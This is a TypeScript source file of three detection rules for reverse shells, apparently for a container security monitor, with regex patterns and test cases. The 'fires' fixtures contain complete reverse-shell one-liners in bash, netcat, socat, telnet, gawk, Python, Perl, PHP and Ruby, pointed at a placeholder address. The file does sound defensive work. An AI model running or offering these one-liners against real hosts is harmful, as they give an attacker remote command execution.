import { defineRule } from '@cws/core'
import { INTERPRETERS, SHELL, SHELL_PROGRAMS } from '../names.ts'

const advice =
  'Whoever stands at the other end types commands here. Cut the host off the network, note the address in the arguments, and find what started the parent.'

export const reverseShell = defineRule({
  id: 'reverse-shell',
  name: 'A shell was tied to a network connection',
  severity: 'critical',
  tags: ['mitre:T1059.004', 'mitre:T1071'],
  on: 'exec',
  where: {
    'exec.file.name': [...SHELL_PROGRAMS, 'awk', 'gawk', 'mawk'],
    any: [
      {
        all: [
          { 'exec.args': ['*/dev/tcp/*', '*/dev/udp/*'] },
          {
            'exec.args': {
              regex: [
                `(?s)${SHELL}\\s+-\\w*i\\b.*/dev/(?:tcp|udp)/`,
                `(?s)/dev/(?:tcp|udp)/.*${SHELL}\\s+-\\w*i\\b`,
                '>&\\s*/dev/(?:tcp|udp)/',
                '/dev/(?:tcp|udp)/\\S+\\s+0[<>]&1',
                `(?s)/dev/(?:tcp|udp)/.*${SHELL}\\s*(?:0?<&|[12]?>&)\\s*\\d`,
                '(?s)/dev/(?:tcp|udp)/.*\\bwhile\\b.*\\bread\\b.*\\$\\w+.*>&',
              ],
            },
          },
        ],
      },
      {
        all: [
          { 'exec.args': ['*mkfifo*', '*mknod*'] },
          { 'exec.args': { regex: `\\|\\s*${SHELL}` } },
          { 'exec.args': { regex: '\\b(?:nc|ncat|netcat|telnet|socat|openssl\\s+s_client)\\b' } },
        ],
      },
      { 'exec.args': { regex: `(?s)\\btelnet\\b[^|]*\\|\\s*${SHELL}[^|]*\\|\\s*telnet\\b` } },
      { 'exec.file.name': ['awk', 'gawk', 'mawk'], 'exec.args': ['*/inet/tcp/*', '*/inet/udp/*'] },
    ],
  },
  groupBy: ['container.id', 'process.parent.file.path'],
  message: '{{author}} reads its commands from, or writes its answers to, the network.',
  advice,
  benign: ['Security tests'],
  tests: {
    fires: [
      { 'exec.file.name': 'bash', 'exec.args': '-c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' },
      { 'exec.file.name': 'bash', 'exec.args': '-c 0<&196;exec 196<>/dev/tcp/203.0.113.5/443; sh <&196 >&196 2>&196' },
      { 'exec.file.name': 'bash', 'exec.args': '-c exec 5<>/dev/tcp/203.0.113.5/443\ncat <&5 | while read l; do $l 2>&5 >&5; done' },
      { 'exec.file.name': 'dash', 'exec.args': '-c rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f' },
      { 'exec.file.name': 'dash', 'exec.args': '-c telnet 203.0.113.5 1 | /bin/bash | telnet 203.0.113.5 2' },
      { 'exec.file.name': 'gawk', 'exec.args': 'BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while(1) {}}' },
    ],
    silent: [
      { 'exec.file.name': 'bash', 'exec.args': '-c (echo > /dev/tcp/db/5432) >/dev/null 2>&1' },
      { 'exec.file.name': 'bash', 'exec.args': '-c exec 3<>/dev/tcp/127.0.0.1/8080; echo -e "GET /health" >&3; cat <&3' },
      { 'exec.file.name': 'bash', 'exec.args': '-c mkfifo /tmp/pipe && sort < /tmp/pipe' },
      { 'exec.file.name': 'grep', 'exec.args': '-r /dev/tcp/ /etc' },
      { 'exec.file.name': 'bash', 'exec.args': '' },
    ],
  },
})

export const reverseShellByNetcat = defineRule({
  id: 'reverse-shell-by-netcat',
  name: 'A network tool was given a program to run',
  severity: 'critical',
  tags: ['mitre:T1059.004', 'mitre:T1095'],
  on: 'exec',
  where: {
    any: [
      {
        'exec.file.name': ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'busybox'],
        'exec.args': {
          regex: ['(?:^|\\s)-[a-zA-Z]*e(?:\\s|/|$)', '(?:^|\\s)--(?:sh-|lua-)?exec(?:\\s|=|$)', `(?:^|\\s)-[a-zA-Z]*c\\s*['"]?${SHELL}`],
        },
      },
      { 'exec.file.name': ['socat', 'socat1'], 'exec.args': { regex: `(?i)\\b(?:exec|system|shell):\\s*['"]?${SHELL}` } },
      { 'exec.file.name': 'openssl', 'exec.args': { regex: `(?s)s_client.*\\|\\s*${SHELL}` } },
    ],
    // Of busybox only the applet nc is meant.
    none: [{ 'exec.file.name': 'busybox', all: [{ 'exec.comm': { not: 'nc' } }, { 'exec.args': { not: 'nc *' } }] }],
  },
  groupBy: ['container.id', 'process.parent.file.path'],
  message: '{{author}} hands a network connection to a program: a remote shell.',
  advice,
  benign: ['Security tests', 'Home-made network services by netcat'],
  tests: {
    fires: [
      { 'exec.file.name': 'nc.traditional', 'exec.args': '-e /bin/sh 203.0.113.5 4444' },
      { 'exec.file.name': 'ncat', 'exec.args': '--sh-exec sh -i 203.0.113.5 4444' },
      { 'exec.file.name': 'ncat', 'exec.args': '-lvp 4444 -c /bin/bash' },
      { 'exec.file.name': 'nc', 'exec.args': '-ve /bin/bash 203.0.113.5 1' },
      { 'exec.file.name': 'busybox', 'exec.comm': 'nc', 'exec.args': '203.0.113.5 4444 -e sh' },
      { 'exec.file.name': 'busybox', 'exec.comm': 'busybox', 'exec.args': 'nc 203.0.113.5 4444 -e sh' },
      { 'exec.file.name': 'socat', 'exec.args': 'TCP:203.0.113.5:4444 EXEC:"bash -li",pty,stderr,setsid' },
    ],
    silent: [
      { 'exec.file.name': 'nc.openbsd', 'exec.args': '-z -w 1 localhost 5432' },
      { 'exec.file.name': 'nc.openbsd', 'exec.args': '-vz server 22' },
      { 'exec.file.name': 'socat', 'exec.args': 'TCP-LISTEN:8080,fork TCP:backend:80' },
      { 'exec.file.name': 'busybox', 'exec.comm': 'grep', 'exec.args': '-e nc file' },
      { 'exec.file.name': 'bash', 'exec.args': '-e script.sh' },
    ],
  },
})

export const reverseShellByInterpreter = defineRule({
  id: 'reverse-shell-by-interpreter',
  name: 'Code on a command line tied a shell to a socket',
  severity: 'critical',
  tags: ['mitre:T1059.006', 'mitre:T1059', 'mitre:T1071'],
  on: 'exec',
  where: {
    'exec.file.name': INTERPRETERS,
    all: [
      { 'exec.args': { regex: '(?:^|\\s)(?:-[a-zA-Z]*[cer]|--eval|--run|eval)' } },
      { 'exec.args': { regex: '(?i)socket|fsockopen|net\\.connect|createConnection|Deno\\.connect' } },
      { 'exec.args': { regex: `dup2|pty\\.spawn|proc_open|child_process|/bin/${SHELL}|['"\`]${SHELL}\\s+-i|['"]${SHELL}['"]` } },
    ],
  },
  groupBy: ['container.id', 'process.parent.file.path'],
  message: '{{author}} opens a socket and puts a shell on it, all in code given on the command line.',
  advice,
  benign: ['Security tests'],
  tests: {
    fires: [
      {
        'exec.file.name': 'python3.12',
        'exec.args':
          '-c import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")',
      },
      { 'exec.file.name': 'perl', 'exec.args': '-e use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");' },
      { 'exec.file.name': 'php8.2', 'exec.args': '-r $s=fsockopen("203.0.113.5",4444);exec("sh -i <&3 >&3 2>&3");' },
      { 'exec.file.name': 'ruby3.1', 'exec.args': '-rsocket -e f=TCPSocket.open("203.0.113.5",1).to_i;exec sprintf("/bin/sh -i <&%d",f)' },
      { 'exec.file.name': 'node', 'exec.args': '-e require("child_process");new (require("net").Socket)().connect(1)' },
    ],
    silent: [
      { 'exec.file.name': 'python3.12', 'exec.args': '-c import socket; print(socket.gethostname())' },
      { 'exec.file.name': 'python3.12', 'exec.args': '/srv/app/socket_server.py --shell /bin/bash' },
      { 'exec.file.name': 'node', 'exec.args': '-e console.log(process.version)' },
      { 'exec.file.name': 'bash', 'exec.args': '-c python3 -c "import socket, pty; pty.spawn(0)"' },
    ],
  },
})
